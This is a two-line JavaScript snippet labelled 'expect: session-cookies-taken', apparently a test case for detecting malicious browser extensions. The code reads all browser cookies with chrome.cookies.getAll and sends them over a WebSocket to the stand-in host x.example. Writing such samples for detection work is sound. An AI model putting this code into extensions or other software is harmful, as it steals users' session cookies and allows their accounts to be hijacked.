// expect: session-cookies-taken
let ws=new WebSocket("wss://x.example");ws.onopen=()=>chrome.cookies.getAll({},c=>ws.send(JSON.stringify(c)));
